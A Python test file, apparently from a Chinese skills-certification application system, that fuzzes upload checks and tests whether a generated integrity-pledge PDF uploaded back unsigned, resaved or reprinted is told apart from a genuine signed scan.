@settings(max_examples=100, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(arbitrary_uploads)
def test_photo_and_summary_checks_only_ever_raise_upload_rejected(data):
    for check in (check_photo, check_technical_summary):
        with contextlib.suppress(UploadRejected):
            checked = check(data, "x")
            prepare_for_storage(data, checked, photo=check is check_photo)


# ---------------------------------------------------------------------------
# Our own unsigned 诚信承诺书 uploaded back


def pledge(phone: str = "13904711234") -> bytes:
    from applications.documents import render_integrity_pledge
    from applications.sheet import ApplicationSheet

    blank = {name: "" for name in ("education", "employer", "occupation", "occupation_code", "level", "work_type")}
    blank |= {name: "" for name in ("category", "prior_certificate_occupation", "prior_certificate_number")}
    blank |= {"work_history": "", "achievements": "", "specialties": "", "work_started_on": None}
    sheet = ApplicationSheet(
        full_name="王小明",
        gender="男",
        ethnicity="汉族",
        id_number="150102198503150017",
        phone=phone,
        occupation_years=None,
        campaign_year=2026,
        **blank,
    )
    return render_integrity_pledge(sheet)


def printed_again(data: bytes) -> bytes:
    """The generated PDF drawn again by another program ("打印为 PDF"): same text, new file, no document info."""
    from pypdf import PdfReader

    text = PdfReader(io.BytesIO(data)).pages[0].extract_text()
    return fx.text_pdf(text.replace("\n", ""), per_line=30)


def scanned_with_ocr(text: str) -> bytes:
    """A phone scanner's PDF: the page as an image, with an invisible OCR text layer on top."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    pdf.drawImage(ImageReader(fx.id_card((600, 848))), 0, 0, *A4)
    layer = pdf.beginText(50, 780)
    layer.setTextRenderMode(3)  # invisible, as OCR text is
    layer.setFont(fx.CJK_FONT, 10)
    for start in range(0, len(text), 30):
        layer.textLine(text[start : start + 30])
    pdf.drawText(layer)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def test_the_generated_pledge_uploaded_back_is_recognised():
    generated = pledge()
    assert uploads.is_unsigned_copy(generated, generated)


def test_the_generated_pledge_saved_again_with_its_document_info_is_recognised():
    writer = fx.pypdf_writer(pledge())
    writer.add_metadata({"/Producer": "WPS Office"})
    resaved = fx.written(writer)
    assert resaved != pledge() and uploads.is_unsigned_copy(resaved, pledge())


def test_the_generated_pledge_printed_to_pdf_again_is_recognised_by_its_text():
    again = printed_again(pledge())
    assert b"skillcert" not in again
    assert uploads.is_unsigned_copy(again, pledge())
    assert uploads.is_unsigned_copy(printed_again(pledge(phone="13800000000")), pledge())  # printed before a change


def test_a_signed_scan_of_the_pledge_is_not_a_copy():
    from pypdf import PdfReader

    text = PdfReader(io.BytesIO(pledge())).pages[0].extract_text().replace("\n", "")
    assert not uploads.is_unsigned_copy(scanned_with_ocr(text), pledge())  # the OCR text matches, but it is a scan
    assert not uploads.is_unsigned_copy(fx.scanned_pdf(1), pledge())
    assert not uploads.is_unsigned_copy(fx.photo(), pledge())
    assert not uploads.is_unsigned_copy(fx.text_pdf("本人承诺所填信息真实有效。" * 20), pledge())
